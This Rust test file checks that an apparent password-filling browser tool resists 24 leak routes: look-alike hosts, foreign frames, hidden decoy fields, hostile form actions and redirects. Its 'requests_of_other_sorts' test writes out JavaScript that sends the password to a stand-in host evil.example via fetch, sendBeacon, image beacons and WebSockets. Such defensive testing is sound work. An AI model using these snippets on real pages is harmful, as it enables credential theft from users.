//! Where secrets must not go: 24 ways to get them there, none of which works. W12, and what else happens in between, is in
//! `races.rs`; W24 there and in `in_page.rs`. `docs/LEAKS.md` has the list.

use guise_core::{Action, FillRules, FillWay, Interaction, Site, SiteRules, Target};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use rstest::rstest;

use super::world::{PASSWORD, World};
use crate::stage::{by, by_id, element, fill};

pub(super) const HOST: &str = "login.bank.example";
pub(super) const FIELD: &str = r#"<form method="post" action="/sign-in/to/here"><input id="password" name="password" type="password"><button id="send">Send</button></form>"#;

pub(super) async fn world(way: FillWay) -> World {
    with_rules(SiteRules {
        way,
        ..SiteRules::default()
    })
    .await
}

async fn with_rules(rules: SiteRules) -> World {
    World::with(FillRules {
        sites: [(Site::of("bank.example").unwrap(), rules)].into(),
        ..FillRules::default()
    })
    .await
}

/// The address of a page with that body.
pub(super) fn made(host: &str, body: &str) -> String {
    let body = utf8_percent_encode(body, NON_ALPHANUMERIC);
    format!("https://{host}/sign-in/made?body={body}")
}

/// What is in a field.
async fn value(world: &World, selector: &str) -> String {
    let code = format!("document.querySelector({selector:?}).value");
    world.stage.evaluate(&code).await
}

/// The words stand for themselves there, and are no secret.
async fn means_itself(world: &World, selector: &str) {
    world.fills(selector, PASSWORD).await;
    assert_eq!(value(world, selector).await, PASSWORD);
}

/// Sends the form and waits until it has arrived.
async fn sends(world: &World) {
    world.click("#send").await;
    world.sent_to("here").await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn hosts_that_look_alike(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    let world = world(way).await;
    for host in [
        // W01
        "bank-example.example",
        "login.bank.example.evil.example",
        "bank.exarnple.example",
        // W02
        "login.bаnk.example",
        // W03
        "you.github.io",
        // W07
        "login.bank.example@evil.example",
        "login.bank.example%20@evil.example",
    ] {
        world.goto(&made(host, FIELD)).await;
        means_itself(&world, "#password").await;
        sends(&world).await;
        world.stage.site.reset();
    }
    world.leaks_nothing();
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn neighbours_under_a_private_suffix(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    let world = World::with_login("me.github.io", way).await;
    world.goto(&made("you.github.io", FIELD)).await;
    means_itself(&world, "#password").await;
    world.goto(&made("github.io", FIELD)).await;
    means_itself(&world, "#password").await;
    world.goto(&made("me.github.io", FIELD)).await;
    world.fills("#password", PASSWORD).await;
    assert_ne!(value(&world, "#password").await, PASSWORD);
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn other_hosts_of_the_site_where_it_is_limited_to_one(
    #[values(FillWay::Wire, FillWay::Page)] way: FillWay,
) {
    // W04
    let world = with_rules(SiteRules {
        hosts: vec![HOST.to_owned()],
        way,
        ..SiteRules::default()
    })
    .await;
    for host in ["bank.example", "www.bank.example", "x.login.bank.example"] {
        world.goto(&made(host, FIELD)).await;
        let message = world.refuses("#password", PASSWORD).await;
        assert!(message.contains(host), "{message}");
        assert_eq!(value(&world, "#password").await, "");
    }
    world.goto(&made(HOST, FIELD)).await;
    world.fills("#password", PASSWORD).await;
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn other_schemes_and_ports(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    let world = world(way).await;
    // W05, W06
    let plain = made(HOST, FIELD).replace("https:", "http:");
    let ported = made(&format!("{HOST}:8443"), FIELD);
    for (url, word) in [(plain, "https"), (ported, "8443")] {
        world.goto(&url).await;
        let message = world.refuses("#password", PASSWORD).await;
        assert!(message.contains(word), "{message}");
        assert_eq!(value(&world, "#password").await, "");
    }
    world.leaks_nothing();
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn frames_of_others(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    let world = world(way).await;
    let inside = "iframe >> internal:control=enter-frame >> #password";
    // W08, W09: one of the two is not the bank's.
    for (outer, inner) in [
        ("www.bank.example", "evil.example"),
        ("evil.example", HOST),
        ("www.bank.example:8443", HOST),
    ] {
        let frame = format!(
            "<iframe width=500 height=300 src=\"{}\"></iframe>",
            made(inner, FIELD)
        );
        world.goto(&made(outer, &frame)).await;
        let message = world.refuses(inside, PASSWORD).await;
        assert!(message.contains("frame"), "{message}");
    }
    // W10
    let escaped = FIELD.replace('"', "&quot;");
    let data = utf8_percent_encode(FIELD, NON_ALPHANUMERIC);
    let script = |code: &str| {
        let field = FIELD.replace("</", "<\\/");
        format!(
            "<iframe id=f width=500 height=300></iframe><script>const field = '{field}'; const f = document.getElementById('f'); {code}</script>"
        )
    };
    for body in [
        format!("<iframe width=500 height=300 srcdoc=\"{escaped}\"></iframe>"),
        format!("<iframe width=500 height=300 src=\"data:text/html,{data}\"></iframe>"),
        script("f.src = URL.createObjectURL(new Blob([field], { type: 'text/html' }));"),
        script("f.contentDocument.body.innerHTML = field;"),
    ] {
        world.goto(&made(HOST, &body)).await;
        let message = world.refuses(inside, PASSWORD).await;
        assert!(message.contains("without a site"), "{message}");
    }
    // A sandboxed document has its site's address and nobody's origin.
    let frame = format!(
        "<iframe width=500 height=300 sandbox=\"allow-forms allow-scripts\" src=\"{}\"></iframe>",
        made(HOST, FIELD)
    );
    world.goto(&made(HOST, &frame)).await;
    let message = world.refuses(inside, PASSWORD).await;
    assert!(message.contains("sandboxed"), "{message}");
    world
        .goto(&format!(
            "{}&csp=sandbox+allow-forms+allow-scripts",
            made(HOST, FIELD)
        ))
        .await;
    let message = world.refuses("#password", PASSWORD).await;
    assert!(message.contains("sandboxed"), "{message}");
    world.leaks_nothing();
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn another_tab_in_the_place_of_the_right_one(
    #[values(FillWay::Wire, FillWay::Page)] way: FillWay,
) {
    // W11
    let world = world(way).await;
    world.goto(&made(HOST, FIELD)).await;
    let seen = world.stage.observe().await;
    let id = element(&seen, "password").id.clone();
    let evil = made("evil.example", FIELD);
    let open = format!("window.open({evil:?}); 0");
    world.perform(Action::EvaluateJs { code: open }).await;
    assert!(world.stage.url().await.contains("evil.example"));
    let outcome = world.perform(fill(by_id(&id), PASSWORD)).await.outcome;
    assert!(!outcome.success, "{}", outcome.message);
    means_itself(&world, "#password").await;
    world.leaks_nothing();
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn forms_that_send_elsewhere(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    let world = world(way).await;
    // W13
    for form in [
        FIELD.replace("/sign-in", "https://evil.example/sign-in"),
        FIELD.replace("/sign-in", "http://login.bank.example/sign-in"),
        FIELD.replace(
            "<button",
            "<button formaction=\"https://evil.example/sign-in/to/x\"",
        ),
        // A form does not list its buttons with a picture.
        FIELD.replace(
            "<button",
            "<input type=image alt=Go formaction=\"https://evil.example/sign-in/to/x\"><button",
        ),
        FIELD.replace("/sign-in/to/here", "javascript:alert(1)"),
        format!("<base href=\"https://evil.example/\">{FIELD}"),
        // What a form calls `action` is not where it sends.
        FIELD
            .replace("/sign-in", "https://evil.example/sign-in")
            .replace(
                "<button",
                "<input name=action value=\"https://login.bank.example/\"><button",
            ),
    ] {
        world.goto(&made(HOST, &form)).await;
        let message = world.refuses("#password", PASSWORD).await;
        assert!(message.contains("form is sent to"), "{message}");
        assert_eq!(value(&world, "#password").await, "");
    }
    world.leaks_nothing();
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn fields_that_were_rendered_anew(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    let world = world(way).await;
    // Found by its id in the place of the one that was observed, it is looked at like any other.
    for (now, reason) in [
        (
            FIELD.replace("/sign-in", "https://evil.example/sign-in"),
            Some("form is sent to"),
        ),
        (
            FIELD.replace(
                "<input",
                "<input style=\"opacity:0.01;filter:opacity(0.01)\"",
            ),
            Some(""),
        ),
        (FIELD.to_owned(), None),
    ] {
        // A page of its own for each.
        world
            .goto(&made(HOST, &format!("{FIELD}<p>{}</p>", now.len())))
            .await;
        let seen = world.stage.observe().await;
        let id = element(&seen, "password").id.clone();
        let render = format!("document.querySelector('form').outerHTML = {now:?}; 0");
        world.stage.evaluate(&render).await;
        let outcome = world.perform(fill(by_id(&id), PASSWORD)).await.outcome;
        world.says_nothing(&outcome.message);
        match reason {
            Some(reason) => {
                assert!(
                    !outcome.success && outcome.message.contains(reason),
                    "{}",
                    outcome.message
                );
                assert_eq!(value(&world, "#password").await, "");
            }
            None => {
                assert!(outcome.success, "{}", outcome.message);
                assert!(
                    outcome.message.contains("found again"),
                    "{}",
                    outcome.message
                );
                world.click("#send").await;
                let take = world.sent_to("here").await;
                assert!(take.body.contains("Tr0ub4dor"), "{}", take.body);
            }
        }
    }
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn addresses_of_forms_that_are_sent_by_get() {
    // W14
    let by_wire = world(FillWay::Wire).await;
    by_wire
        .goto(&made(HOST, &FIELD.replace("post", "get")))
        .await;
    by_wire.fills("#password", PASSWORD).await;
    sends(&by_wire).await;
    by_wire.leaks_nothing();
    by_wire.end().await;

    let in_page = world(FillWay::Page).await;
    for form in [
        FIELD.replace("method=\"post\"", "method=\"get\""),
        FIELD.replace("method=\"post\"", ""),
        FIELD.replace("<button", "<button formmethod=\"get\""),
    ] {
        in_page.goto(&made(HOST, &form)).await;
        let message = in_page.refuses("#password", PASSWORD).await;
        assert!(message.contains("GET"), "{message}");
        assert_eq!(value(&in_page, "#password").await, "");
    }
    in_page.leaks_nothing();
    in_page.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn fields_that_are_not_for_it(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    // W15, W18
    let world = world(way).await;
    for (field, word) in [
        ("<input id=field type=text>", "text"),
        ("<input id=field type=search>", "search"),
        (
            "<input id=field type=email autocomplete=current-password>",
            "email",
        ),
        ("<textarea id=field></textarea>", "textarea"),
        ("<div id=field contenteditable>x</div>", "div"),
    ] {
        world.goto(&made(HOST, field)).await;
        let message = world.refuses("#field", PASSWORD).await;
        assert!(message.contains(word), "{message}");
    }
    let list = format!("<select id=field><option>{PASSWORD}</option><option>x</option></select>");
    world.goto(&made(HOST, &list)).await;
    let select = Action::Interact {
        target: Target {
            timeout_ms: 1000,
            ..by("#field")
        },
        interaction: Interaction::SelectDropdownOption {
            value: PASSWORD.to_owned(),
        },
    };
    let outcome = world.perform(select).await.outcome;
    assert!(!outcome.success, "{}", outcome.message);
    world.leaks_nothing();
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn fields_that_nobody_sees(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    // W16, W17
    let world = world(way).await;
    for style in [
        "display: none",
        "visibility: hidden",
        "opacity: 0",
        "filter: opacity(0)",
        "position: absolute; left: -9999px",
        "width: 1px; height: 1px; padding: 0; border: 0",
        "clip-path: inset(50%)",
        "position: absolute; clip: rect(0 0 0 0)",
        "transform: scale(0.01)",
        "position: relative; z-index: -1; opacity: 0.05",
        "pointer-events: none",
    ] {
        let field = FIELD.replace("<input", &format!("<input style=\"{style}\""));
        // A field to look at stands beside the decoy.
        let body = format!("{field}<input type=password id=seen>");
        world.goto(&made(HOST, &body)).await;
        world.refuses("#password", PASSWORD).await;
        assert_eq!(value(&world, "#password").await, "", "{style}");
    }
    for around in [
        "opacity: 0",
        "height: 0; overflow: hidden",
        "width: 3px; overflow: hidden",
        "clip-path: circle(0)",
        "content-visibility: hidden",
    ] {
        let body = format!("<div style=\"{around}\">{FIELD}</div>");
        world.goto(&made(HOST, &body)).await;
        world.refuses("#password", PASSWORD).await;
        assert_eq!(value(&world, "#password").await, "", "{around}");
    }
    let cover =
        format!("{FIELD}<div style=\"position: fixed; inset: 0; background: white\"></div>");
    world.goto(&made(HOST, &cover)).await;
    let message = world.refuses("#password", PASSWORD).await;
    assert!(message.contains("over it"), "{message}");
    // The same from outside of a frame.
    let source = made(HOST, FIELD);
    for around in [
        "opacity: 0.05",
        "position: relative; z-index: -1",
        "width: 3px",
    ] {
        let body = format!(
            "<iframe style=\"width: 500px; height: 300px; {around}\" src=\"{source}\"></iframe>
             <div style=\"position: fixed; inset: 0\"></div>"
        );
        world.goto(&made(HOST, &body)).await;
        let inside = "iframe >> internal:control=enter-frame >> #password";
        world.refuses(inside, PASSWORD).await;
    }
    for disabled in ["disabled", "readonly", "inert", "aria-disabled=true"] {
        let body = FIELD.replace("<input", &format!("<input {disabled}"));
        world.goto(&made(HOST, &body)).await;
        world.refuses("#password", PASSWORD).await;
    }
    world.leaks_nothing();
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn redirects_to_others() {
    // W19
    let world = world(FillWay::Wire).await;
    for status in [307, 308] {
        let evil = "https%3A%2F%2Fevil.example%2Fsign-in%2Fto%2Fevil";
        let form = FIELD.replace(
            "/sign-in/to/here",
            &format!("/sign-in/redirect?status={status}&to={evil}"),
        );
        world.goto(&made(HOST, &form)).await;
        world.fills("#password", PASSWORD).await;
        world.click("#send").await;
        world.taken(|take| take.path == "/sign-in/redirect").await;
        // The same by a script, which follows by itself.
        world.goto(&made(HOST, FIELD)).await;
        world.fills("#password", PASSWORD).await;
        let code = format!(
            "fetch('/sign-in/redirect?status={status}&to={evil}', {{ method: 'POST', mode: 'no-cors',
                body: new URLSearchParams({{ password: document.querySelector('#password').value }}) }})
                .then(() => 'arrived', () => 'failed')"
        );
        assert_eq!(world.stage.evaluate(&code).await, "failed");
    }
    let takes = world.stage.site.takes();
    assert!(
        takes.iter().all(|take| take.path != "/sign-in/to/evil"),
        "{takes:#?}"
    );
    // Where it got to first was the right place.
    let right: Vec<_> = takes
        .iter()
        .filter(|take| take.path == "/sign-in/redirect")
        .collect();
    assert_eq!(right.len(), 4);

    // Within the site it goes on.
    world.stage.site.reset();
    let form = FIELD.replace(
        "/sign-in/to/here",
        "/sign-in/redirect?status=307&to=/sign-in/to/there",
    );
    world.goto(&made(HOST, &form)).await;
    world.fills("#password", PASSWORD).await;
    world.click("#send").await;
    let take = world.sent_to("there").await;
    let sent = url::form_urlencoded::parse(take.body.as_bytes())
        .next()
        .unwrap()
        .1
        .into_owned();
    assert_eq!(sent, world.password());
    // Without a body it may go anywhere.
    let evil = "https%3A%2F%2Fevil.example%2Fsign-in%2Fto%2Fhere";
    let form = FIELD.replace(
        "/sign-in/to/here",
        &format!("/sign-in/redirect?status=302&to={evil}"),
    );
    world.goto(&made(HOST, &form)).await;
    world.fills("#password", PASSWORD).await;
    sends(&world).await;
    let take = world.sent_to("here").await;
    assert_eq!((take.method.as_str(), take.body.as_str()), ("GET", ""));
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn requests_of_other_sorts() {
    // W20, W21, W22
    let world = world(FillWay::Wire).await;
    for code in [
        // Elsewhere.
        "navigator.sendBeacon('https://evil.example/sign-in/to/beacon', new URLSearchParams({ password: value }))",
        "await fetch('https://evil.example/sign-in/to/fetch', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ password: value }) })",
        "await fetch('https://evil.example/sign-in/to/fetch', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ password: value }) })",
        "new Image().src = 'https://evil.example/sign-in/to/image?password=' + encodeURIComponent(value)",
        // At home, where it does not belong.
        "await fetch('/sign-in/to/text', { method: 'POST', body: value })",
        "await fetch('/sign-in/to/comment', { method: 'POST', body: new URLSearchParams({ comment: value }) })",
        "await fetch('/sign-in/to/comment', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: value, password: 'x' + value }) })",
        "await fetch('/sign-in/to/get?password=' + encodeURIComponent(value))",
        "await fetch('/sign-in/to/both?p=' + encodeURIComponent(value), { method: 'POST', body: new URLSearchParams({ password: value }) })",
        "await fetch('/sign-in/to/header', { method: 'POST', headers: { 'x-p': encodeURIComponent(value) }, body: new URLSearchParams({ password: value }) })",
        "await fetch('/sign-in/to/bytes', { method: 'POST', headers: { 'content-type': 'application/octet-stream' }, body: 'password=' + value })",
        "history.pushState({}, '', '?password=' + encodeURIComponent(value)); await fetch('/sign-in/to/moved')",
        "document.cookie = 'p=' + encodeURIComponent(value); await fetch('/sign-in/to/cookie', { method: 'POST', body: 'x' })",
        "document.title = value; localStorage.p = value; window.name = value; await fetch('/sign-in/to/stored')",
        // By socket.
        "await new Promise((done) => { const s = new WebSocket('wss://evil.example/sign-in/socket'); s.onopen = () => { s.send(value); done(); } })",
        "await new Promise((done) => { const s = new WebSocket('wss://login.bank.example/sign-in/socket'); s.onopen = () => { s.send(JSON.stringify({ password: value })); done(); } })",
        // Out of another frame, and into one.
        "const f = document.createElement('iframe'); f.src = '/sign-in/page/blank'; await new Promise((done) => { f.onload = done; document.body.append(f) }); await f.contentWindow.fetch('/sign-in/to/frame', { method: 'POST', body: new f.contentWindow.URLSearchParams({ password: value }) })",
        "const f = document.createElement('iframe'); f.name = 'there'; document.body.append(f); const form = document.querySelector('form'); form.target = 'there'; form.submit(); await new Promise((done) => { f.onload = done })",
        "const form = document.querySelector('form'); form.target = '_blank'; form.submit(); await new Promise((done) => setTimeout(done, 300))",
    ] {
        world.goto(&made(HOST, FIELD)).await;
        world.fills("#password", PASSWORD).await;
        let code = format!(
            "(async () => {{ const value = document.querySelector('#password').value; {code}; return value }})()"
        );
        let stand_in = world.stage.evaluate(&code).await;
        assert_ne!(stand_in, world.password());
    }
    world.taken(|take| take.path == "/sign-in/to/stored").await;
    assert!(world.stage.site.takes().len() > 10);
    world.leaks_nothing();
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn service_workers() {
    // W23
    let world = world(FillWay::Wire).await;
    world.goto(&made(HOST, FIELD)).await;
    let register = "navigator.serviceWorker.register('/sign-in/service.js', { scope: '/' })
        .then(() => navigator.serviceWorker.ready)
        .then(() => navigator.serviceWorker.controller ?? new Promise((done) => { navigator.serviceWorker.oncontrollerchange = done }))
        .then(() => 'ready')";
    assert_eq!(world.stage.evaluate(register).await, "ready");
    world.fills("#password", PASSWORD).await;
    world.click("#send").await;
    let take = world.sent_to("service").await;
    assert!(take.body.starts_with("password="), "{take:?}");
    world.leaks_nothing();
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_next_page_of_the_site() {
    let world = world(FillWay::Wire).await;
    world.goto(&made(HOST, FIELD)).await;
    world.fills("#password", PASSWORD).await;
    let keep = "sessionStorage.kept = document.querySelector('#password').value; 0";
    world.stage.evaluate(keep).await;
    // What was filled in was another document, whatever this one knows of it.
    world.goto(&made(HOST, &format!("{FIELD}<p>again"))).await;
    let send = "fetch('/sign-in/to/next', { method: 'POST', body: new URLSearchParams({ password: sessionStorage.kept }) }).then(() => 'sent')";
    assert_eq!(world.stage.evaluate(send).await, "sent");
    world.sent_to("next").await;
    world.leaks_nothing();
    world.end().await;
}
